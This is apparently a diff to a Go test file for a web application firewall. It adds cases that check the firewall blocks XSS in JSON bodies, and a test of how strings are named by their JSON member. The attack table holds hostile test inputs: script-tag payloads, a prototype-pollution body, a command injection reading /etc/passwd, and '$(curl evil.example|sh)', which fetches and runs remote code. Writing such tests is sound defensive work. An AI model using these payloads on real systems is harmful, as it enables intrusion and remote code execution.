@@ -2,6 +2,7 @@ package firewall
 
 import (
 	"cmp"
+	"encoding/json"
 	"net/http"
 	"net/http/httptest"
 	"slices"
@@ -76,6 +77,7 @@ func TestAttacksAtTheAPIsRoutesAreStopped(t *testing.T) {
 		"a member that comes twice": {"PATCH", "/v1/profiles/me", `{"bio":"fine","bio":"<script>alert(1)</script>"}`, "xss"},
 		"after the document":        {"PATCH", "/v1/profiles/me", `{"bio":"fine"}{"bio":"<script>alert(1)</script>"}`, "xss"},
 		"in what is no JSON":        {"PATCH", "/v1/profiles/me", `{"bio":"<script>alert(1)</script>"`, "xss"},
+		"no JSON at all":            {"PATCH", "/v1/profiles/me", `<script>alert(1)</script>`, "xss"},
 		"a prototype":               {"PATCH", "/v1/profiles/me", `{"metadata":{"__proto__":{"admin":true}}}`, "generic"},
 		"a command in preferences":  {"PATCH", "/v1/profiles/me/preferences", `{"content_language":"en;cat /etc/passwd"}`, "rce"},
 		"a command in a handle":     {"PATCH", "/v1/profiles/me", `{"handle":"$(curl evil.example|sh)"}`, "rce"},
@@ -133,8 +135,30 @@ func TestBodiesHaveAsManyStringsAsAreRead(t *testing.T) {
 	}
 	// The attack comes after what is read, and may not get through for that.
 	body := `{"metadata":[` + many.String()[1:] + `,"<script>alert(1)</script>"]}`
-	if v := inspect(t, e, request("PATCH", "/v1/profiles/me", patchJSON), body); !v.Stop || !slices.Contains(v.Rules, 200007) {
-		t.Errorf("too many strings: %+v", v)
+	for _, e := range []*Engine{e, engine(t, Options{DetectOnly: true})} {
+		if v := inspect(t, e, request("PATCH", "/v1/profiles/me", patchJSON), body); !v.Stop || !slices.Contains(v.Rules, 200007) {
+			t.Errorf("too many strings: %+v", v)
+		}
+	}
+}
+
+// Exclusions go by these names.
+func TestStringsAreNamedByTheirMember(t *testing.T) {
+	t.Parallel()
+	w := walker{dec: json.NewDecoder(strings.NewReader(
+		`{"bio":"a","n":1,"links":[{"label":"b","url":"c"},{"label":"b"},"d",["e"]],"metadata":{"f":{"g":null,"h":["i",true]},"bio":"j"},"handle":"k"} "l"`,
+	)), seen: map[[2]string]bool{}}
+	if err := w.document(); err != nil {
+		t.Fatal(err)
+	}
+	want := [][2]string{
+		{"json_bio", ""}, {"json_bio", "a"}, {"json_n", ""}, {"json_links", ""}, {"json_links", "label"}, {"json_links", "b"}, {"json_links", "url"},
+		{"json_links", "c"}, {"json_links", "d"}, {"json_links", "e"}, {"json_metadata", ""}, {"json_metadata", "f"}, {"json_metadata", "g"}, {"json_metadata", "h"},
+		{"json_metadata", "i"}, {"json_metadata", "bio"}, {"json_metadata", "j"}, {"json_handle", ""}, {"json_handle", "k"},
+	}
+	// What comes after the document belongs to no member, whatever name it goes by.
+	if len(w.list) != len(want)+1 || !slices.Equal(w.list[:len(want)], want) || w.list[len(want)][1] != "l" {
+		t.Errorf("%q", w.list)
 	}
 }
 
